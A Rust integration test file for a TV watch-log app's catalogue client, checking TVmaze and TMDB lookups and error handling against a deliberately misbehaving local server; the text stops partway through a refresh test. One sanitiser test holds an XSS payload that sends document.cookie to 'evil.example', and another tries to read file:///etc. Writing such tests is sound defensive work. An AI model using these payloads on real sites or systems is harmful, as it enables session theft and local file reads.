//! Catalogue lookups against a real local HTTP server that serves the real
//! recorded TVmaze and TMDB responses in `../shared/fixtures/catalog/`, and
//! misbehaves on purpose (slow, rate-limited, failing, garbage, huge) to
//! check that every failure reaches the user as a clear error.

use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;
use watchlog_core::catalog::blocking::BlockingCatalog;
use watchlog_core::catalog::{
    html_to_text, Catalog, CatalogConfig, CatalogRef, Details, MatchOutcome, MatchQuery,
    MatchSelection, Provider, RefreshProgress, RefreshSelection, RefreshSummary,
};
use watchlog_core::net::NetConfig;
use watchlog_core::progress::CancelToken;
use watchlog_core::transfer::import::input::SourceFile;
use watchlog_core::transfer::import::{Import, ImportFormat, Mode, RunOptions};
use watchlog_core::{
    EntryFields, Error, ExternalIds, Kind, Library, NewEntry, Rating, Status, TitleFacts,
};
use watchlog_testkit::tvmaze::Tvmaze;
use watchlog_testkit::{fixtures, Reply, Req, Sandbox, Server};

/// A catalogue fixture's bytes (`None`: skipped, see `fixtures::read`).
fn fixture(rel: &str) -> Option<Vec<u8>> {
    fixtures::read(&format!("catalog/{rel}"))
}

fn json(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).expect("fixture is JSON")
}

const V3_KEY: &str = "0123456789abcdef0123456789abcdef";

fn config(server: &Server) -> CatalogConfig {
    CatalogConfig {
        tvmaze_url: server.base.clone(),
        tmdb_url: format!("{}/3", server.base),
        tmdb_key: Some(V3_KEY.into()),
        cache_ttl: Duration::ZERO,
        net: NetConfig {
            connect_timeout: Duration::from_millis(500),
            timeout: Duration::from_millis(1500),
            max_body_bytes: 2 << 20,
            max_attempts: 3,
            backoff: Duration::from_millis(10),
            max_retry_after: Duration::from_secs(2),
            rate_limit: None,
            // The base URLs above are allowed as configured catalogues.
            allow_hosts: Vec::new(),
        },
        ..CatalogConfig::default()
    }
}

fn catalog(server: &Server) -> BlockingCatalog {
    BlockingCatalog::new(config(server)).expect("catalog")
}

fn code(e: &Error) -> &'static str {
    e.code()
}

// ---------------------------------------------------------- TVmaze routes

/// Serves TVmaze's recorded answers (the Flexget cassettes' shows as well
/// as the search's), and `/lookup/shows` by IMDb or TheTVDB id as a
/// redirect to the show, as TVmaze does.
fn tvmaze_router(t: Tvmaze) -> impl Fn(&Req) -> Reply {
    move |req: &Req| {
        let parts: Vec<&str> = req.path.trim_matches('/').split('/').collect();
        match parts.as_slice() {
            ["shows", _, "crew"] => Reply::not_found(),
            ["lookup", "shows"] => {
                let (param, value) = req.query.split_once('=').unwrap_or(("", ""));
                let key = if param == "imdb" { "imdb" } else { "thetvdb" };
                match t
                    .shows
                    .iter()
                    .find(|s| s["externals"][key].to_string().trim_matches('"') == value)
                {
                    Some(s) => {
                        let mut r = Reply::json(301, "");
                        r.headers.push(("Location", format!("/shows/{}", s["id"])));
                        r
                    }
                    None => Reply::not_found(),
                }
            }
            _ => t.route(req).unwrap_or_else(Reply::not_found),
        }
    }
}

fn tvmaze_server() -> Option<(Server, Vec<Value>)> {
    let t = Tvmaze::load()?.with_flexget_shows()?;
    let shows = t.shows.clone();
    Some((Server::start(tvmaze_router(t)), shows))
}

// ------------------------------------------------------------ TVmaze tests

#[test]
fn tvmaze_search_maps_the_recorded_results() {
    let Some((server, _)) = tvmaze_server() else {
        return;
    };
    let raw = json(&fixture("tvmaze/search_shows_q_robot.json").unwrap());
    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
    assert_eq!(
        results.len(),
        raw.as_array().unwrap().len(),
        "one result per hit"
    );
    for (r, hit) in results.iter().zip(raw.as_array().unwrap()) {
        let show = &hit["show"];
        assert_eq!(r.provider, Provider::Tvmaze);
        assert_eq!(r.provider_id, show["id"].to_string());
        assert_eq!(r.name, show["name"].as_str().unwrap());
        let premiered = show["premiered"]
            .as_str()
            .map(|d| d[..4].parse::<i32>().unwrap());
        assert_eq!(r.year, premiered, "year of {}", r.name);
        let channel = if show["network"].is_null() {
            &show["webChannel"]
        } else {
            &show["network"]
        };
        assert_eq!(
            r.network.as_deref(),
            channel["name"].as_str(),
            "network of {}",
            r.name
        );
        if let Some(code) = channel["country"]["code"].as_str() {
            assert_eq!(r.country.as_deref(), Some(code), "country of {}", r.name);
        }
        assert_eq!(
            r.poster_thumb_url.as_deref(),
            show["image"]["medium"].as_str()
        );
        if let Some(s) = &r.summary {
            assert!(
                !s.contains('<') && !s.contains("&amp;"),
                "summary is plain text: {s}"
            );
        }
    }
    let robot = results
        .iter()
        .find(|r| r.provider_id == "1871")
        .expect("Mr. Robot");
    assert_eq!(
        (robot.name.as_str(), robot.year, robot.country.as_deref()),
        ("Mr. Robot", Some(2015), Some("US"))
    );
    assert_eq!(
        server.hits()[0].query,
        "q=robot",
        "the query goes in the q parameter"
    );
}

#[test]
fn tvmaze_details_bring_facts_ids_and_real_episodes() {
    let Some((server, _)) = tvmaze_server() else {
        return;
    };
    let episodes = json(&fixture("tvmaze/shows_1871_episodes.json").unwrap());
    let d = catalog(&server)
        .details(&"tvmaze:1871".parse().unwrap())
        .unwrap();
    let f = &d.facts;
    assert_eq!(f.name, "Mr. Robot");
    assert_eq!(f.year, Some(2015));
    assert_eq!(f.language.as_deref(), Some("en"), "English → en");
    assert_eq!(f.network.as_deref(), Some("USA Network"));
    assert_eq!(f.country.as_deref(), Some("US"));
    assert_eq!(f.genres, ["Drama", "Crime", "Thriller"]);
    assert_eq!(f.runtime_minutes, Some(60));
    assert_eq!(f.kind, Kind::Series, "a running show is no miniseries");
    assert_eq!(f.external_ids.tvmaze.as_deref(), Some("1871"));
    assert_eq!(f.external_ids.tvdb.as_deref(), Some("289590"));
    let n = episodes.as_array().unwrap().len();
    assert_eq!(d.episodes.len(), n);
    assert_eq!(f.episodes, Some(n as u32));
    assert_eq!(f.seasons, Some(1));
    let first = &d.episodes[0];
    assert_eq!(first.name.as_deref(), episodes[0]["name"].as_str());
    assert_eq!(
        first.airdate.map(|d| d.to_string()).as_deref(),
        episodes[0]["airdate"].as_str()
    );
    assert_eq!(
        (first.season, first.number, first.runtime_minutes),
        (1, 1, Some(60))
    );
    assert!(f.synopsis.as_deref().is_some_and(|s| !s.contains("<p>")));
    assert_eq!(d.poster_url, f.poster_url);
    let requested = server.hits().iter().any(|r| {
        r.path == "/shows/1871"
            && r.query.contains("embed[]=episodes")
            && r.query.contains("embed[]=cast")
    });
    assert!(
        requested,
        "episodes and cast are embedded: {:?}",
        server.hits()
    );
}

#[test]
fn tvmaze_streaming_shows_use_the_web_channel() {
    let Some((server, shows)) = tvmaze_server() else {
        return;
    };
    let raw = shows
        .iter()
        .find(|s| s["id"] == 1370)
        .expect("Jessica Jones is recorded");
    let d = catalog(&server)
        .details(&CatalogRef::new(Provider::Tvmaze, "1370"))
        .unwrap();
    assert!(raw["network"].is_null());
    assert_eq!(
        d.facts.network.as_deref(),
        raw["webChannel"]["name"].as_str()
    );
    assert_eq!(d.facts.network.as_deref(), Some("Netflix"));
    assert_eq!(d.facts.country.as_deref(), Some("US"));
    assert_eq!(
        d.facts.seasons,
        Some(raw["_embedded"]["seasons"].as_array().unwrap().len() as u32),
        "seasons counted from the embedded season list"
    );
    assert_eq!(d.facts.external_ids.imdb.as_deref(), Some("tt2357547"));
    assert_eq!(d.facts.external_ids.tvdb.as_deref(), Some("284190"));
    assert_eq!(d.facts.episodes, None, "no episode list, no count");

    let talk = catalog(&server)
        .details(&"tvmaze:3928".parse().unwrap())
        .unwrap();
    assert_eq!(talk.facts.name, "The Daily Show with Trevor Noah");
    assert_eq!(talk.facts.network.as_deref(), Some("Comedy Central"));
    assert_eq!(talk.facts.external_ids.imdb, None);

    let e = catalog(&server)
        .details(&"tvmaze:999999".parse().unwrap())
        .unwrap_err();
    assert_eq!(code(&e), "not_found", "{e}");
    assert!(
        e.to_string().contains("TVmaze has no show with id 999999"),
        "{e}"
    );
}

#[test]
fn match_prefers_ids_then_scores_the_search() {
    let Some((server, _)) = tvmaze_server() else {
        return;
    };
    let cat = catalog(&server);
    // IMDb id: TVmaze's lookup redirects to the show, which is followed.
    let by_imdb = MatchQuery {
        title: "Jessica Jones".into(),
        external_ids: ExternalIds {
            imdb: Some("tt2357547".into()),
            ..Default::default()
        },
        ..Default::default()
    };
    match cat.match_title(Provider::Tvmaze, &by_imdb).unwrap() {
        MatchOutcome::Exact(d) => assert_eq!(d.facts.external_ids.tvmaze.as_deref(), Some("1370")),
        other => panic!("expected an exact match, got {other:?}"),
    }
    let by_tvdb = MatchQuery {
        title: "whatever".into(),
        external_ids: ExternalIds {
            tvdb: Some("289590".into()),
            ..Default::default()
        },
        ..Default::default()
    };
    assert!(matches!(
        cat.match_title(Provider::Tvmaze, &by_tvdb).unwrap(),
        MatchOutcome::Exact(d) if d.facts.name == "Mr. Robot"
    ));
    // No ids: the search results are scored.
    let by_name = MatchQuery {
        title: "mr robot".into(),
        year: Some(2016),
        kind: Some(Kind::Series),
        ..Default::default()
    };
    match cat.match_title(Provider::Tvmaze, &by_name).unwrap() {
        MatchOutcome::Likely(r) => assert_eq!(r.provider_id, "1871"),
        other => panic!("expected Mr. Robot as likely, got {other:?}"),
    }
    let nothing = MatchQuery {
        title: "Soundtrack #2".into(),
        year: Some(2023),
        ..Default::default()
    };
    assert_eq!(
        cat.match_title(Provider::Tvmaze, &nothing).unwrap(),
        MatchOutcome::NotFound
    );
}

#[test]
fn catalogue_shows_enter_the_library_and_refresh_without_touching_user_fields() {
    let Some((server, _)) = tvmaze_server() else {
        return;
    };
    let d = catalog(&server)
        .details(&"tvmaze:1871".parse().unwrap())
        .unwrap();
    let mut lib = Library::open_in_memory().unwrap();
    let fields = EntryFields {
        status: Status::Watching,
        rating: Some(Rating::new(85).unwrap()),
        review: Some("Hello, friend.".into()),
        progress: 10,
        ..Default::default()
    };
    let id = lib.add_from_catalog(&d, &fields).unwrap();
    let entry = lib.entry(id).unwrap();
    assert_eq!(entry.title.facts.name, "Mr. Robot");
    assert_eq!(
        entry.title.facts.external_ids.tvmaze.as_deref(),
        Some("1871")
    );
    assert_eq!(
        lib.episodes(id).unwrap(),
        d.episodes,
        "episodes stored in order"
    );
    let again = lib
        .add_from_catalog(&d, &EntryFields::default())
        .unwrap_err();
    assert_eq!(code(&again), "conflict", "{again}");

    // A later refresh lists fewer episodes than the user watched: the count
    // is raised to the progress, the user's fields stay as they were.
    let mut fewer: Details = d.clone();
    fewer.episodes.truncate(4);
    fewer.facts.episodes = Some(4);
    fewer.facts.name = "Mr. Robot (renamed)".into();
    fewer.facts.original_name = None;
    let refreshed = lib.refresh_title(id, &fewer).unwrap();
    assert_eq!(refreshed.title.facts.name, "Mr. Robot (renamed)");
    assert_eq!(refreshed.title.facts.episodes, Some(10));
    assert_eq!(refreshed.fields.progress, 10);
    assert_eq!(refreshed.fields.rating, fields.rating);
    assert_eq!(refreshed.fields.review, fields.review);
    assert_eq!(refreshed.fields.status, Status::Watching);
    assert_eq!(lib.episodes(id).unwrap().len(), 4);
}

// -------------------------------------------------------------- TMDB tests

fn tmdb_server() -> Option<Server> {
    let popular = fixture("tmdb/tv-popular.json")?;
    let mut details = json(&fixture("tmdb/tv-details.json")?);
    details["watch/providers"] = json(&fixture("tmdb/tv-watch-providers.json")?);
    let miniseries = fixture("tmdb/tv-details-complex.json")?;
    let not_found = fixture("tmdb/resource-not-found.json")?;
    let bad_key = fixture("tmdb/invalid-api-key.json")?;
    // The recorded season (Game of Thrones' first) stands for each season.
    let season = json(&fixture("tmdb/tv-season-details.json")?);
    Some(Server::start(move |req| {
        let key_ok = req.query.contains(&format!("api_key={V3_KEY}"))
            || req
                .header("Authorization")
                .is_some_and(|a| a.starts_with("Bearer eyJ"));
        if !key_ok {
            return Reply::json(401, bad_key.clone());
        }
        match req.path.as_str() {
            // The popular list has the same shape as a search page and holds
            // real Korean titles.
            "/3/search/tv" => Reply::json(200, popular.clone()),
            "/3/tv/1399" => Reply::json(200, details.to_string()),
            "/3/tv/2" => Reply::json(200, miniseries.clone()),
            p if p.starts_with("/3/tv/1399/season/") => {
                let n: u64 = p.rsplit('/').next().unwrap().parse().unwrap();
                let mut s = season.clone();
                s["season_number"] = n.into();
                for e in s["episodes"].as_array_mut().unwrap() {
                    e["season_number"] = n.into();
                }
                Reply::json(200, s.to_string())
            }
            _ => Reply::json(404, not_found.clone()),
        }
    }))
}

#[test]
fn tmdb_search_keeps_the_native_title() {
    let Some(server) = tmdb_server() else {
        return;
    };
    let results = catalog(&server).search(Provider::Tmdb, "우당탕탕").unwrap();
    let family = results
        .iter()
        .find(|r| r.provider_id == "230525")
        .expect("Unpredictable Family in the results");
    assert_eq!(family.name, "Unpredictable Family");
    assert_eq!(family.original_name.as_deref(), Some("우당탕탕 패밀리"));
    assert_eq!(family.country.as_deref(), Some("KR"));
    assert_eq!(family.year, Some(2023));
    assert_eq!(
        family.poster_thumb_url.as_deref(),
        Some("https://image.tmdb.org/t/p/w342/goMzJ6rxTndGki2pKpyAKuKNXHY.jpg")
    );
    let ncis = results.iter().find(|r| r.name == "NCIS").unwrap();
    assert_eq!(ncis.original_name, None, "same as the name: not repeated");
    let hit = &server.hits()[0];
    assert!(
        hit.query.contains("query=%EC%9A%B0"),
        "encoded query: {}",
        hit.query
    );
    assert!(
        hit.header("Authorization").is_none(),
        "a v3 key goes in the query"
    );
}

/// A viewer who chose Korean gets TMDB's facts in Korean: every request
/// (search, details, each season) asks in the library's language, and the
/// original title is still kept.
#[test]
fn tmdb_asks_in_the_language_chosen_in_the_settings() {
    let Some(server) = tmdb_server() else {
        return;
    };
    let sandbox = Sandbox::new();
    let mut lib = Library::open(&sandbox.db).unwrap();
    let settings = lib.settings().unwrap();
    lib.save_settings(&watchlog_core::model::Settings {
        language: Some("ko".into()),
        ..settings
    })
    .unwrap();
    let from_library = CatalogConfig::for_library(&lib).unwrap();
    assert_eq!(from_library.language.as_deref(), Some("ko-KR"));
    let cat = BlockingCatalog::new(CatalogConfig {
        language: from_library.language,
        ..config(&server)
    })
    .unwrap();
    let results = cat.search(Provider::Tmdb, "우당탕탕").unwrap();
    let family = results.iter().find(|r| r.provider_id == "230525").unwrap();
    assert_eq!(family.original_name.as_deref(), Some("우당탕탕 패밀리"));
    cat.details(&"tmdb:1399".parse().unwrap()).unwrap();
    let hits = server.hits();
    assert!(hits.len() > 2, "search, details and seasons: {hits:?}");
    for hit in &hits {
        assert!(
            hit.query.contains("language=ko-KR"),
            "{} asked without the language: {}",
            hit.path,
            hit.query
        );
    }

    // English is TMDB's own default: nothing is added.
    let english = catalog(&server);
    english.search(Provider::Tmdb, "NCIS").unwrap();
    let last = server.hits().pop().unwrap();
    assert!(!last.query.contains("language="), "{}", last.query);
}

#[test]
fn tmdb_details_map_facts_posters_and_providers() {
    let Some(server) = tmdb_server() else {
        return;
    };
    let raw = json(&fixture("tmdb/tv-details.json").unwrap());
    let watch = json(&fixture("tmdb/tv-watch-providers.json").unwrap());
    let d = catalog(&server)
        .details(&"tmdb:1399".parse().unwrap())
        .unwrap();
    let f = &d.facts;
    assert_eq!(f.name, raw["name"].as_str().unwrap());
    assert_eq!(f.year, Some(2011));
    assert_eq!(
        f.seasons,
        raw["number_of_seasons"].as_u64().map(|n| n as u32)
    );
    assert_eq!(
        f.episodes,
        raw["number_of_episodes"].as_u64().map(|n| n as u32)
    );
    assert_eq!(f.network.as_deref(), Some("HBO"));
    assert_eq!(f.country.as_deref(), Some("US"));
    assert_eq!(f.language.as_deref(), Some("en"));
    assert_eq!(f.airing, Some(watchlog_core::Airing::Ended));
    assert_eq!(f.external_ids.tmdb.as_deref(), Some("1399"));
    // Each regular season's list, fetched one season at a time; TMDB gives
    // days, not times.
    let regular = raw["seasons"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["season_number"].as_u64() > Some(0))
        .count();
    assert_eq!(d.episodes.len(), regular * 10);
    let first = &d.episodes[0];
    assert_eq!(
        (first.season, first.number, first.airdate, first.airstamp),
        (1, 1, "2011-04-17".parse().ok(), None)
    );
    assert_eq!(first.name.as_deref(), Some("Winter Is Coming"));
    assert_eq!(f.genres.len(), raw["genres"].as_array().unwrap().len());
    assert!(
        f.people.iter().any(|p| p.name == "David Benioff"),
        "creators as writers"
    );
    assert_eq!(
        f.poster_url.as_deref(),
        Some("https://image.tmdb.org/t/p/w780/1XS1oqL89opfnbLl8WnZY1O1uJx.jpg")
    );
    assert_eq!(
        d.poster_url.as_deref(),
        Some("https://image.tmdb.org/t/p/original/1XS1oqL89opfnbLl8WnZY1O1uJx.jpg")
    );
    let us_flatrate: Vec<&str> = watch["results"]["US"]["flatrate"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["provider_name"].as_str().unwrap())
        .collect();
    assert!(!us_flatrate.is_empty());
    for name in us_flatrate {
        assert!(
            d.providers.contains(&("US".to_string(), name.to_string())),
            "{name} in the US providers: {:?}",
            d.providers
        );
    }
    let requested = &server.hits()[0];
    assert_eq!(
        requested.query,
        format!("append_to_response=external_ids,credits,watch/providers&api_key={V3_KEY}")
    );
    let mini = catalog(&server)
        .details(&"tmdb:2".parse().unwrap())
        .unwrap();
    assert_eq!(mini.facts.kind, Kind::Miniseries);
    let e = catalog(&server)
        .details(&"tmdb:404404".parse().unwrap())
        .unwrap_err();
    assert_eq!(code(&e), "not_found", "{e}");
}

#[test]
fn tmdb_invalid_key_is_a_clear_message_without_the_key() {
    let Some(server) = tmdb_server() else {
        return;
    };
    let mut cfg = config(&server);
    let wrong = "ffffffffffffffffffffffffffffffff";
    cfg.tmdb_key = Some(wrong.into());
    let e = BlockingCatalog::new(cfg)
        .unwrap()
        .search(Provider::Tmdb, "Soundtrack")
        .unwrap_err();
    assert_eq!(code(&e), "key_refused");
    assert_eq!(
        e.to_string(),
        "TMDB refused the API key; check it in Settings"
    );
    assert!(!format!("{e:?}").contains(wrong), "the key never appears");

    let mut cfg = config(&server);
    cfg.tmdb_key = None;
    let e = BlockingCatalog::new(cfg)
        .unwrap()
        .search(Provider::Tmdb, "Soundtrack")
        .unwrap_err();
    assert_eq!(code(&e), "key_missing", "{e}");
    assert!(server.hits().len() == 1, "no request without a key");
}

#[test]
fn tmdb_read_access_tokens_go_in_the_authorization_header() {
    let Some(server) = tmdb_server() else {
        return;
    };
    let token = format!("eyJhbGciOiJIUzI1NiJ9.{}.signature", "a".repeat(120));
    let mut cfg = config(&server);
    cfg.tmdb_key = Some(token.clone());
    let results = BlockingCatalog::new(cfg)
        .unwrap()
        .search(Provider::Tmdb, "Berlin")
        .unwrap();
    assert!(!results.is_empty());
    let hit = &server.hits()[0];
    assert_eq!(
        hit.header("Authorization"),
        Some(format!("Bearer {token}").as_str())
    );
    assert!(!hit.query.contains("api_key"), "{}", hit.query);
}

// ----------------------------------------------------------- misbehaviour

fn fast_failing(server: &Server) -> BlockingCatalog {
    let mut cfg = config(server);
    cfg.net.timeout = Duration::from_millis(300);
    BlockingCatalog::new(cfg).unwrap()
}

#[test]
fn a_slow_server_times_out_with_a_clear_message() {
    let server = Server::start(|_| {
        let mut r = Reply::json(200, "[]");
        r.delay = Duration::from_millis(1200);
        r
    });
    let started = Instant::now();
    let e = fast_failing(&server)
        .search(Provider::Tvmaze, "slow")
        .unwrap_err();
    assert!(
        started.elapsed() < Duration::from_millis(1000),
        "gave up in time"
    );
    assert_eq!(code(&e), "timeout");
    assert_eq!(e.to_string(), "TVmaze did not answer within 300 ms");
}

#[test]
fn rate_limited_requests_wait_for_retry_after_then_succeed() {
    let Some(search) = fixture("tvmaze/search_shows_q_robot.json") else {
        return;
    };
    let count = Arc::new(Mutex::new(0));
    let c = count.clone();
    let server = Server::start(move |_| {
        let mut n = c.lock().unwrap();
        *n += 1;
        if *n == 1 {
            let mut r = Reply::json(429, r#"{"name":"Too Many Requests","status":429}"#);
            r.headers.push(("Retry-After", "1".into()));
            r
        } else {
            Reply::json(200, search.clone())
        }
    });
    let started = Instant::now();
    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
    let waited = started.elapsed();
    assert!(!results.is_empty());
    assert_eq!(server.hits().len(), 2, "one refusal, one success");
    assert!(
        waited >= Duration::from_secs(1),
        "Retry-After honoured: {waited:?}"
    );
    assert!(waited < Duration::from_millis(1900), "{waited:?}");
}

#[test]
fn rate_limiting_that_lasts_is_reported() {
    let server = Server::start(|_| {
        let mut r = Reply::json(429, "{}");
        r.headers.push(("Retry-After", "3600".into()));
        r
    });
    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
    assert_eq!(code(&e), "rate_limited");
    assert!(e.to_string().contains("wait 60 minutes"), "{e}");
    assert_eq!(server.hits().len(), 1, "an hour is not waited out");
}

#[test]
fn server_errors_are_retried_then_given_up() {
    let server = Server::start(|_| Reply::json(500, "<h1>Internal Server Error</h1>"));
    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
    assert_eq!(code(&e), "provider_error");
    assert_eq!(
        e.to_string(),
        "TVmaze answered with a server error (HTTP 500) 3 times; it may be down, try again later"
    );
    assert_eq!(server.hits().len(), 3, "bounded attempts");
}

#[test]
fn malformed_json_is_a_bad_response() {
    let server = Server::start(|_| Reply::json(200, r#"[{"score": 1, "show": {"id": "#));
    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
    assert_eq!(code(&e), "bad_response");
    assert!(
        e.to_string()
            .starts_with("TVmaze sent something that is not a show list"),
        "{e}"
    );
    // Valid JSON of the wrong shape is no better.
    let server = Server::start(|_| Reply::json(200, r#"{"message": "hello"}"#));
    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
    assert_eq!(code(&e), "bad_response", "{e}");
}

#[test]
fn an_html_error_page_is_named_as_such() {
    let server = Server::start(|_| {
        let mut r = Reply::json(
            200,
            "<!DOCTYPE html><html><body><h1>Captive portal: please log in</h1></body></html>",
        );
        r.content_type = "text/html; charset=utf-8";
        r
    });
    let e = catalog(&server).search(Provider::Tvmaze, "x").unwrap_err();
    assert_eq!(code(&e), "bad_response");
    assert!(
        e.to_string()
            .contains("TVmaze sent a web page instead of a show list"),
        "{e}"
    );
}

#[test]
fn oversized_bodies_are_refused_while_streaming() {
    for chunked in [true, false] {
        let server = Server::start(move |_| {
            let mut r = Reply::json(200, vec![b' '; 300 * 1024]);
            r.chunked = chunked;
            r
        });
        let mut cfg = config(&server);
        cfg.net.max_body_bytes = 64 * 1024;
        let e = BlockingCatalog::new(cfg)
            .unwrap()
            .search(Provider::Tvmaze, "x")
            .unwrap_err();
        assert_eq!(code(&e), "bad_response", "chunked={chunked}: {e}");
        assert!(e.to_string().contains("TVmaze sent more than"), "{e}");
    }
}

#[test]
fn script_in_a_summary_becomes_inert_text() {
    let Some(search) = fixture("tvmaze/search_shows_q_robot.json") else {
        return;
    };
    let mut hits = json(&search);
    hits[0]["show"]["summary"] = Value::String(
        "<p>Good &amp; evil<script>fetch('https://evil.example/'+document.cookie)</script></p><p onclick=\"x()\">Part <b>2</b></p><img src=x onerror=alert(1)>".into(),
    );
    let body = hits.to_string();
    let server = Server::start(move |_| Reply::json(200, body.clone()));
    let results = catalog(&server).search(Provider::Tvmaze, "robot").unwrap();
    let summary = results[0].summary.as_deref().unwrap();
    assert_eq!(summary, "Good & evil\n\nPart 2");
    assert_eq!(html_to_text("<script>alert(1)</script>"), "");
}

#[test]
fn an_unreachable_service_reads_as_offline() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut cfg = CatalogConfig {
        tvmaze_url: format!("http://127.0.0.1:{port}"),
        ..CatalogConfig::default()
    };
    cfg.net.connect_timeout = Duration::from_millis(300);
    let e = BlockingCatalog::new(cfg)
        .unwrap()
        .search(Provider::Tvmaze, "x")
        .unwrap_err();
    assert_eq!(code(&e), "offline");
    assert_eq!(
        e.to_string(),
        "cannot reach TVmaze; check your internet connection"
    );
}

#[test]
fn only_web_addresses_are_fetched() {
    let cfg = CatalogConfig {
        tvmaze_url: "file:///etc".into(),
        ..CatalogConfig::default()
    };
    let e = BlockingCatalog::new(cfg)
        .unwrap()
        .search(Provider::Tvmaze, "passwd")
        .unwrap_err();
    assert_eq!(code(&e), "invalid_input", "{e}");
}

#[test]
fn identical_requests_are_answered_from_the_cache() {
    let server = Server::start(|_| Reply::json(200, "[]"));
    let mut cfg = config(&server);
    cfg.cache_ttl = Duration::from_secs(300);
    let cat = BlockingCatalog::new(cfg).unwrap();
    cat.search(Provider::Tvmaze, "same").unwrap();
    cat.search(Provider::Tvmaze, "same").unwrap();
    cat.search(Provider::Tvmaze, "other").unwrap();
    assert_eq!(server.hits().len(), 2, "{:?}", server.hits());
}

#[test]
fn the_rate_limiter_spaces_out_calls_to_one_host() {
    let server = Server::start(|_| Reply::json(200, "[]"));
    let mut cfg = config(&server);
    cfg.net.rate_limit = Some(watchlog_core::net::RateLimit {
        requests: 2,
        per: Duration::from_millis(400),
    });
    let cat = BlockingCatalog::new(cfg).unwrap();
    let started = Instant::now();
    for q in ["a", "b", "c"] {
        cat.search(Provider::Tvmaze, q).unwrap();
    }
    let took = started.elapsed();
    assert!(
        took >= Duration::from_millis(400),
        "third call waited: {took:?}"
    );
    assert!(took < Duration::from_millis(1200), "{took:?}");
}

#[test]
fn a_service_with_its_own_pace_keeps_to_it_and_leaves_the_others_alone() {
    use watchlog_core::net::{HttpClient, RateLimit, RequestOptions};
    let (slow, fast) = (
        Server::start(|_| Reply::json(200, "[]")),
        Server::start(|_| Reply::json(200, "[]")),
    );
    let mut cfg = config(&slow).net;
    cfg.rate_limit = Some(RateLimit {
        requests: 1,
        per: Duration::from_millis(400),
    });
    cfg.allow_hosts = vec!["127.0.0.1".into()];
    let http = HttpClient::new(cfg).unwrap();
    http.limit_host(
        &fast.base,
        RateLimit {
            requests: 10,
            per: Duration::from_millis(400),
        },
    );
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let opts = RequestOptions {
        service: "test",
        bearer: None,
        secret: None,
    };
    let time = |base: &str, n: usize| {
        let started = Instant::now();
        for _ in 0..n {
            rt.block_on(http.get(&format!("{base}/x"), opts)).unwrap();
        }
        started.elapsed()
    };
    let fast_took = time(&fast.base, 5);
    assert!(fast_took < Duration::from_millis(300), "{fast_took:?}");
    let slow_took = time(&slow.base, 2);
    assert!(slow_took >= Duration::from_millis(400), "{slow_took:?}");
}

#[test]
fn a_search_is_cancelled_by_dropping_it() {
    let server = Server::start(|_| {
        let mut r = Reply::json(200, "[]");
        r.delay = Duration::from_millis(1500);
        r
    });
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let started = Instant::now();
    let outcome = runtime.block_on(async {
        let cat = Catalog::new(config(&server)).unwrap();
        // The app drops a search when the user types on; a timeout drops it
        // the same way.
        tokio::time::timeout(
            Duration::from_millis(100),
            cat.search(Provider::Tvmaze, "slow"),
        )
        .await
    });
    assert!(
        outcome.is_err(),
        "the search was still running and got dropped"
    );
    assert!(started.elapsed() < Duration::from_millis(600));
}

// ------------------------------------------------------------ refresh all

/// A library file holding the three shows of the recorded search, each
/// added under a stale name (so a refresh shows) with a rating, one title
/// whose TVmaze id the server does not know, and one typed in by hand.
struct RefreshLib {
    sandbox: Sandbox,
    /// The catalogue entries, in id order.
    shows: Vec<i64>,
    unknown: i64,
    by_hand: i64,
}

fn refresh_lib(server: &Server) -> Option<RefreshLib> {
    let search = json(&fixture("tvmaze/search_shows_q_robot.json")?);
    let cat = catalog(server);
    let sandbox = Sandbox::new();
    let mut lib = Library::open(&sandbox.db).unwrap();
    let mut shows = Vec::new();
    for hit in search.as_array().unwrap() {
        let reference = CatalogRef::new(Provider::Tvmaze, hit["show"]["id"].to_string());
        let mut d = cat.details(&reference).unwrap();
        d.facts.name = format!("Stale {}", d.facts.name);
        let fields = EntryFields {
            rating: Some(Rating::new(70).unwrap()),
            ..Default::default()
        };
        shows.push(lib.add_from_catalog(&d, &fields).unwrap());
    }
    let mut entry = |name: &str, tvmaze: Option<&str>| {
        let mut title = TitleFacts {
            name: name.into(),
            kind: Kind::Series,
            ..Default::default()
        };
        title.external_ids.tvmaze = tvmaze.map(str::to_string);
        lib.add_entry(&NewEntry {
            title,
            fields: EntryFields::default(),
        })
        .unwrap()
    };
    let unknown = entry("Gone From TVmaze", Some("999999"));
    let by_hand = entry("By Hand", None);
    Some(RefreshLib {
        sandbox,
        shows,
        unknown,
        by_hand,
    })
}

#[test]
fn refresh_all_refreshes_each_catalogue_title_and_reports_progress() {
    let Some((server, _)) = tvmaze_server() else {
        return;
    };
    let Some(l) = refresh_lib(&server) else {
        return;
    };
    let seen = Mutex::new(Vec::new());
    let progress = |p: RefreshProgress| seen.lock().unwrap().push(p);
    let run = catalog(&server)
        .refresh_all(
            &l.sandbox.db,
            &RefreshSelection::All,
            Some(&progress),
            &CancelToken::new(),
        )
        .unwrap();
    assert_eq!(
        run.summary,
        RefreshSummary {
            refreshed: 3,
            failed: 1,
            cancelled: false,
            unchanged: 0
        }
    );

    let seen = seen.into_inner().unwrap();
    let done: Vec<u32> = seen.iter().map(|p| p.done).collect();
    assert_eq!(
        done,
        vec![1, 2, 3, 4],
        "four titles (the hand-typed one passed over), each reported"
    );
    assert!(seen.iter().all(|p| p.total == 4), "{seen:?}");
    let failure = seen.iter().find(|p| p.entry_id == l.unknown).unwrap();
    assert!(
        failure
            .error
            .as_deref()
            .is_some_and(|e| e.contains("TVmaze")),
        "the failure says why: {failure:?}"
    );
    assert_eq!(
        seen.iter().filter(|p| p.error.is_some()).count(),
        1,
        "{seen:?}"
    );

    let lib = Library::open(&l.sandbox.db).unwrap();
    for (&id, t) in l.shows.iter().zip(&run.titles) {
